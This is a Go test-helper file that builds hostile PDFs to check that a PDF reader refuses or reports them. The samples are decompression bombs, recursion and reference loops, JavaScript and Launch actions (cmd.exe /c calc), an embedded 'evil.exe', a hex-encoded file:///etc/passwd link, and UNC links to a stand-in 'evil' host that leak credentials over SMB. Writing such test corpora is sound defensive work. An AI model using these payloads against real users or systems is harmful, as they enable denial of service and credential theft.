package pdftest

import (
	"bytes"
	"compress/flate"
	"fmt"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// Hostile is a PDF built to make a reader loop, recurse, allocate or
// inflate without bound, or to carry active content.
type Hostile struct {
	Name string
	Data []byte
	// Code is the error code every entry point must refuse it with; ""
	// means it is accepted and Active names what Check must report.
	Code   string
	Active []string // substrings of the expected active-content labels
}

const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R %s >>`
const helloContent = "BT /F1 12 Tf 72 720 Td (Naskah hostile) Tj ET"
const font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"

// onePageContent is a one-page PDF with the given content stream (and
// stream dictionary entries).
func onePageContent(content []byte, dict string) []byte {
	var w pdfWriter
	w.buf.WriteString("%PDF-1.7\n")
	w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
	w.stream(3, dict, content, "")
	w.obj(4, font)
	w.obj(5, fmt.Sprintf(page, ""))
	return w.finish(1)
}

// onePage writes a valid one-page PDF with extra catalog entries, extra
// page entries and extra objects (numbered from 10).
func onePage(catalogExtra, pageExtra string, extra ...string) []byte {
	var w pdfWriter
	w.buf.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	w.obj(1, "<< /Type /Catalog /Pages 2 0 R "+catalogExtra+" >>")
	w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
	w.stream(3, "", []byte(helloContent), "")
	w.obj(4, font)
	w.obj(5, fmt.Sprintf(page, pageExtra))
	for i, body := range extra {
		if strings.HasPrefix(body, "stream:") {
			dict, data, _ := strings.Cut(strings.TrimPrefix(body, "stream:"), "|")
			w.stream(10+i, dict, []byte(data), "")
			continue
		}
		w.obj(10+i, body)
	}
	return w.finish(1)
}

var (
	bombOnce   sync.Once
	bomb1G     []byte // 1 GiB of zeros, deflated (about 1 MB)
	bomb100M   []byte // 100 MiB of zeros, deflated (about 100 KB)
	hostileSet []Hostile
)

// zeros returns n bytes of zeros (a multiple of 1 MiB) as a zlib stream,
// built by repeating one deflate block that copies 1 MiB from the window:
// deflating a gigabyte would take seconds.
func zeros(n int) []byte {
	var buf bytes.Buffer
	fw, _ := flate.NewWriter(&buf, flate.BestCompression)
	chunk := make([]byte, 1<<20)
	fw.Write(chunk)
	fw.Flush()
	first := bytes.Clone(buf.Bytes())
	buf.Reset()
	fw.Write(chunk)
	fw.Flush()
	steady := bytes.Clone(buf.Bytes())
	buf.Reset()
	fw.Close()
	var out bytes.Buffer
	out.Write([]byte{0x78, 0xda})
	out.Write(first)
	for i := 1; i < n>>20; i++ {
		out.Write(steady)
	}
	out.Write(buf.Bytes())
	// Adler-32 of n zeros: a stays 1, b adds 1 per byte.
	sum := uint32(n%65521)<<16 | 1
	out.Write([]byte{byte(sum >> 24), byte(sum >> 16), byte(sum >> 8), byte(sum)})
	return out.Bytes()
}

// HostileSet returns the hostile PDFs (built once per process; the bombs
// take a few seconds to deflate).
func HostileSet() []Hostile {
	bombOnce.Do(func() {
		bomb1G, bomb100M = zeros(1<<30), zeros(100<<20)
		hostileSet = buildHostile()
	})
	return hostileSet
}

func buildHostile() []Hostile {
	const invalid, tooLarge = "invalid", "too_large"
	var hs []Hostile
	add := func(name string, data []byte, code string, active ...string) {
		hs = append(hs, Hostile{Name: name, Data: data, Code: code, Active: active})
	}

	// A /Pages node that is its own grandchild.
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>")
		w.obj(3, "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")
		w.stream(4, "", []byte(helloContent), "")
		w.obj(5, font)
		w.obj(6, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>")
		add("circular pages", w.finish(1), invalid)
	}
	// A page that is its own parent: inherited attributes are looked up
	// along /Parent.
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 /Parent 6 0 R >>")
		w.stream(3, "", []byte(helloContent), "")
		w.obj(4, font)
		w.obj(5, "<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>")
		w.obj(6, "<< /Type /Pages /Kids [] /Count 0 /Parent 2 0 R >>")
		add("circular parent", w.finish(1), invalid)
	}
	// Kids listed twice at every level: 2^40 pages to walk.
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		n := 40
		for i := 0; i < n; i++ {
			w.obj(2+i, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>", 3+i, 3+i, 1<<(n-i)))
		}
		w.obj(2+n, "<< /Type /Page /MediaBox [0 0 595 842] >>")
		add("shared kids (exponential page tree)", w.finish(1), invalid)
	}
	// 10^6 nested arrays in the catalog, about 2 MB.
	const deep = 1_000_000
	add("10^6-deep nesting", onePage("/Deep "+strings.Repeat("[", deep)+strings.Repeat("]", deep), ""), invalid)
	add("10^6-deep dictionaries", onePage("", "/Deep "+strings.Repeat("<</A ", deep)+strings.Repeat(">>", deep)), invalid)
	// 10^6 nested arrays in a page's content stream, deflated.
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
		w.stream(3, "", deflate([]byte("BT /F1 12 Tf 72 720 Td "+strings.Repeat("[", deep)+strings.Repeat("]", deep)+" TJ ET")), "/Filter /FlateDecode")
		w.obj(4, font)
		w.obj(5, fmt.Sprintf(page, ""))
		add("10^6-deep content stream", w.finish(1), invalid)
	}
	add("10^6-deep uncompressed content stream", onePageContent([]byte("BT /F1 12 Tf 72 720 Td "+strings.Repeat("[", deep)+strings.Repeat("]", deep)+" TJ ET"), ""), invalid)
	// A bomb whose deflate data begins with a stored block that holds
	// "endstream", behind an indirect /Length: a reader that resolves the
	// length inflates all of it.
	{
		hidden := []byte("\nendstream\nendobj\n")
		stored := append([]byte{0x78, 0xda, 0x00, byte(len(hidden)), 0, ^byte(len(hidden)), 0xff}, hidden...)
		data := append(stored, bomb1G[2:]...)
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
		w.start(3)
		fmt.Fprintf(&w.buf, "3 0 obj\n<< /Filter /FlateDecode /Length 6 0 R >>\nstream\n")
		w.buf.Write(data)
		w.buf.WriteString("\nendstream\nendobj\n")
		w.obj(4, font)
		w.obj(5, fmt.Sprintf(page, ""))
		w.obj(6, fmt.Sprint(len(data)))
		add("bomb behind endstream in its data", w.finish(1), tooLarge)
	}
	// A 1 GiB flate bomb in a file of about 1 MB.
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
		w.stream(3, "", bomb1G, "/Filter /FlateDecode")
		w.obj(4, font)
		w.obj(5, fmt.Sprintf(page, ""))
		add("1 GB flate bomb in 1 MB", w.finish(1), tooLarge)
	}
	// 16 streams of 100 MiB each: 1.6 GB from about 3 MB (padded with an
	// uncompressed image so the file is the size of the reported case).
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
		var contents []string
		for i := 0; i < 16; i++ {
			w.stream(10+i, "", bomb100M, "/Filter /FlateDecode")
			contents = append(contents, fmt.Sprintf("%d 0 R", 10+i))
		}
		w.stream(3, "/Type /XObject /Subtype /Image /Width 1000 /Height 450 /ColorSpace /DeviceRGB /BitsPerComponent 8", bytes.Repeat([]byte{0x80}, 1000*450*3), "")
		w.obj(4, font)
		w.obj(5, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents ["+strings.Join(contents, " ")+"] >>")
		add("3 MB inflating to 1.6 GB", w.finish(1), tooLarge)
	}
	// Object 6 is in object stream 7, and 7 in object stream 6.
	add("object-stream loop", objStmLoop(), invalid)
	// References that refer to each other: /Resources 10 0 R → 11 0 R → 10 0 R.
	add("reference loop", onePage("", "/Annots 10 0 R", "11 0 R", "10 0 R"), invalid)
	// The trailer's /Prev points back at its own section.
	{
		data := onePage("", "")
		i := bytes.LastIndex(data, []byte("startxref\n"))
		var off int
		fmt.Sscanf(string(data[i+len("startxref\n"):]), "%d", &off)
		data = bytes.Replace(data, []byte("trailer\n<< "), []byte(fmt.Sprintf("trailer\n<< /Prev %d ", off)), 1)
		add("/Prev xref loop", data, invalid)
	}
	// 300 000 objects.
	{
		var w pdfWriter
		w.buf.WriteString("%PDF-1.7\n")
		w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
		w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
		w.stream(3, "", []byte(helloContent), "")
		w.obj(4, font)
		w.obj(5, fmt.Sprintf(page, ""))
		for i := 10; i < 300_010; i++ {
			w.obj(i, "null")
		}
		add("300 000 objects", w.finish(1), tooLarge)
	}
	// A trailer claiming two billion objects (readers allocate by /Size).
	add("huge /Size", bytes.Replace(onePage("", ""), []byte("trailer\n<< /Size "), []byte("trailer\n<< /Size 2000000000 /OldSize "), 1), tooLarge)

	// Active content: accepted, reported, removed from the text to sign.
	add("JavaScript", onePage("/OpenAction 10 0 R /Names << /JavaScript 11 0 R >>", "/AA << /O 12 0 R >>",
		"<< /S /JavaScript /JS (app.alert\\('open'\\)) >>",
		"<< /Names [(init) 12 0 R] >>",
		"<< /S /Java#53cript /JS 13 0 R >>",
		"stream:|this.submitForm('http://127.0.0.1/');"), "", "JavaScript")
	add("Launch", onePage("", "/Annots [10 0 R]",
		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"), "", "Launch")
	add("embedded .exe", onePage("/Names << /EmbeddedFiles << /Names [(evil.exe) 10 0 R] >> >>", "/Annots [12 0 R]",
		"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 11 0 R >> >>",
		"stream:/Type /EmbeddedFile /Subtype /application#2Fx-msdownload|MZ\x90\x00 This program cannot be run in DOS mode.",
		"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 10 0 R >>"), "", "embedded file", "evil.exe", "FileAttachment")
	add("SubmitForm and XFA", onePage("/AcroForm << /Fields [10 0 R] /XFA 11 0 R >>", "/Annots [10 0 R]",
		"<< /FT /Btn /Ff 65536 /T (kirim) /Type /Annot /Subtype /Widget /Rect [72 500 200 530] /P 5 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1/collect) >> >> >>",
		"stream:|<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>"), "", "SubmitForm", "XFA")
	add("URI with a file: scheme", onePage("", "/Annots [10 0 R 11 0 R 12 0 R]",
		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI <66696C653A2F2F2F6574632F706173737764> >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /A << /S /URI /URI (https://www.pom.go.id/) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /URI /URI 13 0 R >> >>",
		"(javascript:app.alert\\(1\\))"), "", "URI")
	// Action types kept in objects of their own: /S 10 0 R is /Launch.
	add("indirect /S Launch", onePage("", "/Annots [11 0 R]", "/Launch",
		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S 10 0 R /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>"), "", "Launch")
	add("indirect /S GoToR", onePage("", "/Annots [11 0 R]", "/GoToR",
		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S 10 0 R /F (\\\\\\\\evil\\\\s.pdf) /D [0 /Fit] >> >>"), "", "GoToR")
	// Links to a share: Windows readers open them over SMB and send the
	// user's credentials to that host.
	add("URI to a network share", onePage("", "/Annots [10 0 R 11 0 R]",
		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (\\\\\\\\evil\\\\share) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /A << /S 12 0 R /URI (//evil/share/x.pdf) >> >>", "/URI"), "", "URI")
	return hs
}

// objStmLoop writes a file with a cross-reference stream in which object 6
// is stored in object stream 7 and object 7 in object stream 6.
func objStmLoop() []byte {
	var w pdfWriter
	w.buf.WriteString("%PDF-1.7\n")
	w.obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
	w.stream(3, "", []byte(helloContent), "")
	w.obj(4, font)
	w.obj(5, fmt.Sprintf(page, "/Resources 6 0 R"))
	xrefAt := w.buf.Len()
	type ent struct{ typ, a, b int }
	ents := []ent{{0, 0, 65535}}
	for i := 1; i <= 5; i++ {
		ents = append(ents, ent{1, w.offsets[i], 0})
	}
	ents = append(ents, ent{2, 7, 0}, ent{2, 6, 0}, ent{1, xrefAt, 0})
	var raw []byte
	for _, e := range ents {
		raw = append(raw, byte(e.typ), byte(e.a>>24), byte(e.a>>16), byte(e.a>>8), byte(e.a), byte(e.b>>8), byte(e.b))
	}
	z := deflate(raw)
	fmt.Fprintf(&w.buf, "8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n", len(z))
	w.buf.Write(z)
	fmt.Fprintf(&w.buf, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefAt)
	return w.buf.Bytes()
}

// Goroutines returns the number of goroutines now, for CheckGoroutines.
func Goroutines() int { return runtime.NumGoroutine() }

// CheckGoroutines fails tb unless the goroutine count settles back to at
// most before within 10 s: work for a call that returned must not keep
// running.
func CheckGoroutines(tb testing.TB, before int) {
	tb.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for runtime.NumGoroutine() > before {
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			buf = buf[:runtime.Stack(buf, true)]
			tb.Fatalf("got %d goroutines after the call, want at most %d (as before it):\n%s", runtime.NumGoroutine(), before, buf)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// Usage is the time and memory one call took.
type Usage struct {
	Elapsed   time.Duration
	PeakHeap  uint64 // HeapInuse above the baseline before the call, sampled every 2 ms
	Allocated uint64 // TotalAlloc during the call
}

func (u Usage) String() string {
	return fmt.Sprintf("%8.3fs %7.1f MB peak %8.1f MB allocated", u.Elapsed.Seconds(), float64(u.PeakHeap)/(1<<20), float64(u.Allocated)/(1<<20))
}

// Measure runs f after a GC and reports its time, peak heap above the
// baseline and allocations.
func Measure(f func()) Usage {
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base, alloc0 := ms.HeapInuse, ms.TotalAlloc
	var peak atomic.Uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		t := time.NewTicker(2 * time.Millisecond)
		defer t.Stop()
		for {
			var s runtime.MemStats
			runtime.ReadMemStats(&s)
			if s.HeapInuse > base && s.HeapInuse-base > peak.Load() {
				peak.Store(s.HeapInuse - base)
			}
			select {
			case <-stop:
				return
			case <-t.C:
			}
		}
	}()
	start := time.Now()
	f()
	elapsed := time.Since(start)
	close(stop)
	wg.Wait()
	runtime.ReadMemStats(&ms)
	if ms.HeapInuse > base && ms.HeapInuse-base > peak.Load() {
		peak.Store(ms.HeapInuse - base)
	}
	return Usage{Elapsed: elapsed, PeakHeap: peak.Load(), Allocated: ms.TotalAlloc - alloc0}
}

// ManyObjects returns a valid one-page PDF with n small dictionaries
// besides the page's own objects, all reachable from the catalog: the most
// objects a reader must hold for the fewest bytes.
func ManyObjects(n int) []byte {
	var w pdfWriter
	w.buf.WriteString("%PDF-1.7\n")
	w.obj(1, "<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>")
	w.obj(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>")
	w.stream(3, "", []byte(helloContent), "")
	w.obj(4, font)
	w.obj(5, fmt.Sprintf(page, ""))
	var refs strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&refs, "%d 0 R ", 7+i)
	}
	w.obj(6, "["+refs.String()+"]")
	for i := 0; i < n; i++ {
		w.obj(7+i, "<< /A 1 /B [1 2 3] /C (x) >>")
	}
	return w.finish(1)
}
